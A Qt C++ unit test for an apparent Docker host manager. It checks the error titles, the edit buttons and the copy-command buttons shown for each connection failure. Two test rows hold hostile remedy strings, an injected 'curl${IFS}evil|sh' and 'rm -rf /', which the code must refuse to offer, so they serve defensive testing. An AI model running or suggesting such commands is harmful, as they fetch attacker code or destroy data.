// SPDX-FileCopyrightText: 2026 The Hullwright authors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "ui/containers/emptystates.h"
#include "ui/widgets/problembanner.h"

#include <QLabel>
#include <QPushButton>
#include <QTest>

using namespace Hull;
using namespace Qt::StringLiterals;
using Kind = Error::Kind;

//! Each kind of error that a host can end in: how it is headed, and the button that mends it.
class ErrorCatalogueTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void everyKindHasItsTitleAndButton_data();
    void everyKindHasItsTitleAndButton();
    void knowsEveryKind();
    void offersTheCommandThatMends_data();
    void offersTheCommandThatMends();
};

namespace {

struct Row
{
    Kind kind;
    const char* title;
    const char* edit; //!< the button that leads to what the user said of the host; nullptr: that is not to blame
};

constexpr const char* editHost = "Ed&it host…";
constexpr const char* editCertificates = "Ed&it certificates…";
constexpr const char* editLogin = "Ed&it user or key…";

const std::vector<Row> catalogue{
    {Kind::SocketMissing, "No Docker engine answers on prod-a.", nullptr},
    {Kind::NotASocket, "tcp://10.0.0.5:2376 leads to no socket.", editHost},
    {Kind::PermissionDenied, "Docker is here, but your account may not use it.", nullptr},
    {Kind::ConnectionRefused, "No Docker engine answers on prod-a.", nullptr},
    {Kind::ConnectionLost, "prod-a broke off the connection.", nullptr},
    {Kind::Timeout, "prod-a did not answer in time.", nullptr},
    {Kind::NotDocker, "tcp://10.0.0.5:2376 is no Docker engine.", editHost},
    {Kind::BadAnswer, "prod-a gives answers that cannot be read.", nullptr},
    {Kind::BodyTooLarge, "prod-a gives an answer that is too large.", nullptr},
    {Kind::HeaderTooLarge, "prod-a gives an answer whose header is too large.", nullptr},
    {Kind::TooDeep, "prod-a gives an answer that is nested too deeply.", nullptr},
    {Kind::Redirected, "prod-a points to another address.", editHost},
    {Kind::HttpError, "prod-a answers with an error.", nullptr},
    {Kind::Forbidden, "prod-a may not be read.", nullptr},
    {Kind::Gone, "What was asked of prod-a is gone.", nullptr},
    {Kind::ApiTooOld, "The engine of prod-a is too old.", nullptr},
    {Kind::Unsupported, "prod-a cannot be reached by this version.", nullptr},
    {Kind::ConsentNeeded, "prod-a is not connected without your consent.", editHost},
    {Kind::HostUnreachable, "prod-a cannot be reached.", editHost},
    {Kind::TlsExpected, "prod-a wants an encrypted connection.", "Sw&itch to TLS…"},
    {Kind::PlainExpected, "prod-a knows no encrypted connection.", editHost},
    {Kind::TlsFailed, "No encrypted connection to prod-a came about.", editHost},
    {Kind::CertificateUntrusted, "prod-a does not prove who it is.", editCertificates},
    {Kind::CertificateExpired, "The certificate of prod-a has expired.", editCertificates},
    {Kind::CertificateNotYetValid, "The certificate of prod-a is not valid yet.", editCertificates},
    {Kind::CertificateNameMismatch, "The certificate of prod-a is for another name.", editCertificates},
    {Kind::ClientCertificateMissing, "prod-a wants a certificate of yours.", editCertificates},
    {Kind::ClientCertificateExpired, "Your certificate for prod-a has expired.", editCertificates},
    {Kind::ClientCertificateRefused, "prod-a refuses your certificate.", editCertificates},
    {Kind::CertificateFileUnusable, "Your certificate or key for prod-a cannot be used.", editCertificates},
    {Kind::PassphraseNeeded, "The key for prod-a is locked.", nullptr},
    {Kind::BadConfiguration, "What is configured for prod-a leads nowhere.", editHost},
    {Kind::FileUnreadable, "prod-a cannot be shown.", nullptr},
    {Kind::FileUnwritable, "prod-a could not be read.", nullptr},
    {Kind::NotInspectOutput, "prod-a cannot be shown.", nullptr},
    {Kind::Partial, "prod-a was read only in part.", nullptr},
    {Kind::NameUnknown, "The address of prod-a is not known.", editHost},
    {Kind::ProgramMissing, "A program that leads to prod-a is missing.", editHost},
    {Kind::NotSsh, "No SSH server answers on prod-a.", editHost},
    {Kind::LoginsLimited, "prod-a takes no new SSH login now.", nullptr},
    {Kind::HostKeyUnknown, "The key of prod-a is not known yet.", nullptr},
    {Kind::HostKeyChanged, "prod-a is not the host that it was.", nullptr},
    {Kind::LoginFailed, "prod-a does not let you in.", editLogin},
    {Kind::KeyFileUnusable, "Your SSH key for prod-a cannot be used.", editLogin},
    {Kind::AgentWaits, "ssh-agent did not answer in time for prod-a.", nullptr},
    {Kind::ForwardingForbidden, "prod-a closes the way to its engine's socket.", "Use d&ial-stdio…"},
    {Kind::Cancelled, "Reading prod-a was stopped.", nullptr},
    {Kind::Internal, "prod-a could not be read.", nullptr},
};

HostRow failedHost(Kind kind)
{
    HostRow row;
    row.host.name = u"prod-a"_s;
    row.host.endpoint = u"tcp://10.0.0.5:2376"_s;
    row.state = HostState::Failed;
    row.error = Error{.kind = kind,
        .message = {"What happened to %1.", {u"it"_s}},
        .cause = {"The likely cause.", {}},
        .remedy = {"What to do.", {}}};
    return row;
}

EmptyState::Content contentOf(const HostRow& row)
{
    TableSituation situation;
    situation.hosts = {row};
    return emptyStateFor(situation).value_or(EmptyState::Content());
}

QString buttonText(const EmptyState::Content& content, QLatin1String id)
{
    const auto found = std::find_if(content.buttons.begin(), content.buttons.end(),
        [id](const EmptyState::Button& button) { return button.id == id; });
    return found == content.buttons.end() ? QString() : found->text;
}

} // namespace

void ErrorCatalogueTest::everyKindHasItsTitleAndButton_data()
{
    QTest::addColumn<Kind>("kind");
    QTest::addColumn<QString>("title");
    QTest::addColumn<QString>("edit");
    for (const Row& row : catalogue) {
        QTest::newRow(qPrintable(errorKindName(row.kind)))
            << row.kind << QString::fromUtf8(row.title) << QString::fromUtf8(row.edit);
    }
}

void ErrorCatalogueTest::everyKindHasItsTitleAndButton()
{
    QFETCH(Kind, kind);
    QFETCH(QString, title);
    QFETCH(QString, edit);
    const HostRow row = failedHost(kind);
    const EmptyState::Content content = contentOf(row);
    QCOMPARE(content.title, title);
    QCOMPARE(content.text, u"What happened to it.\nThe likely cause.\nWhat to do."_s);
    QCOMPARE(buttonText(content, EmptyAction::editHost), edit);
    QVERIFY(!buttonText(content, EmptyAction::retry).isEmpty());
    QVERIFY(!buttonText(content, EmptyAction::copyDetails).isEmpty());
    ProblemBanner banner;
    banner.setSituation({row.host.name, row.host.endpoint, *row.error, false, {}, true, false, edit});
    auto* button = banner.findChild<QPushButton*>(u"bannerEdit"_s);
    QCOMPARE(button->isVisibleTo(&banner), !edit.isEmpty());
    QCOMPARE(button->text(), edit); // where it stands alone, see setMnemonics()
    QCOMPARE(banner.findChild<QLabel*>(u"bannerTitle"_s)->text(), u"prod-a: What happened to it."_s);
    QCOMPARE(banner.findChild<QLabel*>(u"bannerText"_s)->text(), u"The likely cause. What to do."_s);
    QVERIFY(problemDetails(row.host.name, row.host.endpoint, *row.error).contains(errorKindName(kind)));
}

//! A new kind needs its row here, and with it its words in the window.
void ErrorCatalogueTest::knowsEveryKind()
{
    for (int kind = static_cast<int>(Kind::None) + 1; kind <= static_cast<int>(Kind::Internal); ++kind) {
        const auto rows = std::count_if(
            catalogue.begin(), catalogue.end(), [kind](const Row& row) { return static_cast<int>(row.kind) == kind; });
        QVERIFY2(rows == 1, qPrintable(errorKindName(static_cast<Kind>(kind))));
    }
}

void ErrorCatalogueTest::offersTheCommandThatMends_data()
{
    QTest::addColumn<Kind>("kind");
    QTest::addColumn<QString>("remedy");
    QTest::addColumn<QString>("command");
    const QString join = u"sudo usermod -aG docker alice"_s;
    const QString forget = u"ssh-keygen -f '/home/alice/.ssh/known_hosts' -R '[prod-a.example.org]:2222'"_s;
    QTest::newRow("a group to join") << Kind::PermissionDenied << u"Run `%1`."_s.arg(join) << join;
    QTest::newRow("a group that is a command")
        << Kind::PermissionDenied << u"Run `sudo usermod -aG docker;curl${IFS}evil|sh ops`."_s << QString();
    QTest::newRow("a key to forget") << Kind::HostKeyChanged << u"Remove the old key: `%1`."_s.arg(forget) << forget;
    QTest::newRow("a revoked key") << Kind::HostKeyChanged << u"Ask the host's administrator."_s << QString();
    QTest::newRow("another command") << Kind::HostKeyChanged << u"Run `rm -rf /`."_s << QString();
    QTest::newRow("another kind") << Kind::LoginFailed << u"Run `%1`."_s.arg(forget) << QString();
}

void ErrorCatalogueTest::offersTheCommandThatMends()
{
    QFETCH(Kind, kind);
    QFETCH(QString, remedy);
    QFETCH(QString, command);
    HostRow row = failedHost(kind);
    row.error->remedy = {"%1", {remedy}};
    QCOMPARE(remedyCommand(*row.error), command);
    const QString label = buttonText(contentOf(row), EmptyAction::copyCommand);
    QCOMPARE(label.isEmpty(), command.isEmpty());
    QVERIFY2(label.size() < 50, qPrintable(label)); // a button is no place for a long one
    ProblemBanner banner;
    banner.setSituation({row.host.name, row.host.endpoint, *row.error, false, {}, true});
    auto* copy = banner.findChild<QPushButton*>(u"bannerCopyCommand"_s);
    QCOMPARE(copy->isVisibleTo(&banner), !command.isEmpty());
    QString copied;
    connect(&banner, &ProblemBanner::copyRequested, this, [&copied](const QString& text) { copied = text; });
    copy->click();
    QCOMPARE(copied, command);
}

QTEST_MAIN(ErrorCatalogueTest)
#include "tst_errorcatalogue.moc"
